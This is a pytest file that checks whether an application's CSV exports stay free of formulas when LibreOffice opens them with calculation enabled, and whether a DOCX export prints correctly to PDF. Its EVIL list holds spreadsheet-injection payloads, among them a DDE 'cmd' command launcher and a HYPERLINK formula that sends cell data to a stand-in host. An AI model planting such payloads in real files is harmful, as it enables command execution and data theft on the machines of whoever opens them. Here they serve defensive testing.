"""What LibreOffice makes of exports: printed pages, and cells that are no formulas."""

import csv
import io
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from dev.artefacts.document_readers import DocumentReaders
from tests.support.application.exported_film import people_documents
from tests.support.application.rendered_exports import PROJECT, rendered, rendered_film
from tests.support.application_documents import person_note

pytestmark = pytest.mark.long

TIMEOUT_S = 300
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
EVIL = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "＝1+1", "\t=1+1", "a;=1+2", 'a;"=SUM(1)',  # noqa: RUF001
    "a\n=1+1", '=HYPERLINK("http://x.example/?"&A1)', "'=1+1;=1+2",
)  # fmt: skip
COMMA, SEMICOLON = 44, 59
Convert = Callable[..., Path]


@pytest.fixture(scope="module")
def convert(tmp_path_factory: pytest.TempPathFactory) -> Convert:
    """Return a function that has LibreOffice write a file in another format."""
    office = DocumentReaders.from_environment().office()
    folder = tmp_path_factory.mktemp("office")

    def converted(exported: bytes, source: str, target: str, *options: str) -> Path:
        (folder / source).write_bytes(exported)
        command = [
            str(office), "--headless", f"-env:UserInstallation=file://{folder}/profile", *options,
            "--convert-to", target, "--outdir", str(folder), str(folder / source),
        ]  # fmt: skip
        subprocess.run(command, check=True, capture_output=True, timeout=TIMEOUT_S)
        return folder / f"{Path(source).stem}.{target}"

    return converted


def cells_of(book: Path) -> tuple[list[str], list[str]]:
    """Return the formulas and the texts of a workbook's sheet."""
    with zipfile.ZipFile(book) as parts:
        sheet = ET.fromstring(parts.read("xl/worksheets/sheet1.xml"))  # noqa: S314 - LibreOffice's own
        strings = ET.fromstring(parts.read("xl/sharedStrings.xml"))  # noqa: S314 - likewise
    formulas = [each.text or "" for each in sheet.iter(f"{SHEET}f")]
    return formulas, ["".join(text.itertext()) for text in strings.iter(f"{SHEET}si")]


def calculating(separator: int) -> str:
    """Return the options of someone who has all that looks like a formula calculated."""
    return f"--infilter=CSV:{separator},34,76,1,,0,false,true,false,false,false,0,true"


@pytest.mark.parametrize("separator", [COMMA, SEMICOLON], ids=["comma", "semicolon"])
def test_no_cell_is_a_formula(convert: Convert, separator: int) -> None:
    """Although all is calculated that looks like one, as a file of somebody else's shows."""
    options = calculating(separator)
    careless = "".join(f'"{text.replace(chr(34), chr(34) * 2)}"\n' for text in EVIL).encode()
    assert len(cells_of(convert(careless, f"careless-{separator}.csv", "xlsx", options))[0]) >= 3
    notes = [person_note(PROJECT, content=text, summary=text, context=text) for text in EVIL]
    exported = rendered("csv", [*people_documents(PROJECT), *notes])
    formulas, texts = cells_of(convert(exported, f"notes-{separator}.csv", "xlsx", options))
    assert formulas == []
    if separator == COMMA:
        rows = list(csv.DictReader(io.StringIO(exported.decode("utf-8-sig"), newline="")))
        assert {row["content"] for row in rows} <= set(texts)


def test_a_document_is_printed_with_its_departments(convert: Convert) -> None:
    """On some pages, with all headings and people's names."""
    book = convert(rendered_film("docx", of_run=True), "film.docx", "pdf")
    said = subprocess.run(
        ["pdftotext", book, "-"], capture_output=True, check=True, timeout=TIMEOUT_S, text=True
    )
    for words in ("Story", "Character", "Sound", "Marta"):
        assert words in said.stdout
    assert 2 <= said.stdout.count("\f") <= 20
